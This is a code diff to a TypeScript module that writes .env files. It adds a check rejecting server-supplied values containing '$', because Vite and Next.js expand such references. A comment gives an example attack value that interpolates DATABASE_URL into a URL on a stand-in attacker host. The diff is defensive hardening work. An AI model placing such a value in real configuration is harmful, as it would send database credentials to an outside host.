@@ -19,6 +19,12 @@ export const withOwnSecrets = (environment: readonly Variable[]): readonly Varia
     const { name, random_bytes: count = 0 } = variable
     if (!ownName.test(name) || count > maxRandomBytes)
       throw new Failure('refused', `The server names the variable ${name}, which is none of an application.`)
+    // Attack: `https://evil.example/${DATABASE_URL}`. Vite and Next.js put other variables in, whatever the quotes.
+    if (variable.value?.includes('$'))
+      throw new Failure(
+        'refused',
+        `The server’s value of ${name} has a $, which would be replaced when it is read.`,
+      )
     return count > 0 ? { ...variable, value: randomBytes(count).toString('base64url') } : variable
   })
 
@@ -34,5 +40,5 @@ export const envText = (about: string, environment: readonly Variable[]): string
 function quoted(value: string): string {
   const text = safeText(value)
   if (/^[\w.:/@%+,=~?&-]*$/.test(text)) return text
-  return text.includes("'") ? `"${text.replaceAll(/["\\$`]/g, '\\$&')}"` : `'${text}'`
+  return text.includes("'") ? `"${text.replaceAll(/["\\`]/g, '\\$&')}"` : `'${text}'`
 }
